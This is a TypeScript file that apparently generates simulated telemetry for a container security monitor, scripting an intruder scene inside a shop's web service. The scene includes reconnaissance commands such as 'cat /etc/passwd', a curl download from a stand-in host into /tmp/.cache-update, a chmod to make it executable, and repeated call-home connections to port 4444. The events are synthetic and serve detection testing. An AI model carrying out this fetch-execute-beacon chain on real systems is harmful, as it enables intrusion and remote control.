import type { ProcessRecord } from '@parapet/contract/wire';
import { askForName, connect } from './connections.ts';
import { describeProgram, type Program } from './program.ts';
import type { Scene, Stage } from './stage.ts';

/** Kept for documentation (RFC 5737), as the name is (RFC 2606): there is nobody. */
const outside = { address: '203.0.113.66', name: 'updates.mirror.example' } as const;
const dropped = '/tmp/.cache-update';

/** Through a hole in the shop's web service: a look around, a program from outside that is run and calls home. */
export const playIntruder: Scene = (stage, atMs) => {
  const web = [...stage.live.values()].find(
    (record): record is ProcessRecord =>
      record.kind === 'process' &&
      stage.containerOf(record.containerKey)?.labels['com.shop.service'] === 'web' &&
      record.parentKey === undefined,
  );
  const server = web === undefined ? undefined : stage.knownProgram(web.key);
  if (server === undefined) return;
  for (const [at, command] of lookAround.entries())
    stage.at(atMs + at * 2500, (now) => runShell(stage, now, server, command));
  stage.at(atMs + 9000, (now) => fetchProgram(stage, now, server));
  stage.at(atMs + 14_000, (now) => runProgram(stage, now, server));
};

const lookAround = ['id', 'uname -a', 'cat /etc/passwd'] as const;

const runShell = (stage: Stage, atMs: number, parent: Program, command: string): void => {
  const shell = stage.start(atMs, parent, {
    executable: '/bin/sh',
    arguments: ['/bin/sh', '-c', command],
    folder: '/app/web',
  });
  const words = command.split(' ');
  const program = stage.start(atMs + 2, shell, {
    executable: `/usr/bin/${words[0]}`,
    arguments: words,
    folder: '/app/web',
  });
  stage.end(atMs + 6, program);
  stage.end(atMs + 7, shell);
};

const fetchProgram = (stage: Stage, atMs: number, parent: Program): void => {
  const words = ['curl', '-fsSL', `http://${outside.name}/u`, '-o', dropped];
  const curl = stage.start(atMs, parent, { executable: '/usr/bin/curl', arguments: words, folder: '/app/web' });
  askForName(stage, atMs + 8, curl, outside.name, outside.address);
  connect(stage, atMs + 30, curl, toOutside(stage, curl, 80), 700);
  stage.at(atMs + 400, (now) => tellFile(stage, now, curl, 'file-create'));
  stage.at(atMs + 760, (now) => stage.end(now, curl));
  stage.at(atMs + 1500, (now) => {
    const chmod = stage.start(now, parent, { executable: '/usr/bin/chmod', arguments: ['chmod', '755', dropped] });
    tellFile(stage, now + 2, chmod, 'file-permission', '0755');
    stage.end(now + 4, chmod);
  });
};

const runProgram = (stage: Stage, atMs: number, parent: Program): void => {
  const program = stage.start(atMs, parent, { executable: dropped, arguments: [dropped, '--quiet'], folder: '/tmp' });
  for (const at of [300, 20_000, 40_000]) connect(stage, atMs + at, program, toOutside(stage, program, 4444), 9000);
  stage.at(atMs + 55_000, (now) => stage.end(now, program, 137));
};

const toOutside = (stage: Stage, { container }: Program, port: number) => ({
  isServer: false,
  from: { address: container?.networks[0]?.address ?? stage.host.address, port: 32_768 + stage.random.int(28_000) },
  to: { address: outside.address, port },
});

const tellFile = (
  stage: Stage,
  atMs: number,
  program: Program,
  action: 'file-create' | 'file-permission',
  mode?: string,
): void =>
  stage.tell({
    ...describeProgram(action, stage.atUs(atMs), program),
    ...{ 'file.path': dropped, 'file.type': 'file' },
    ...(mode === undefined ? {} : { 'file.mode': mode }),
  });
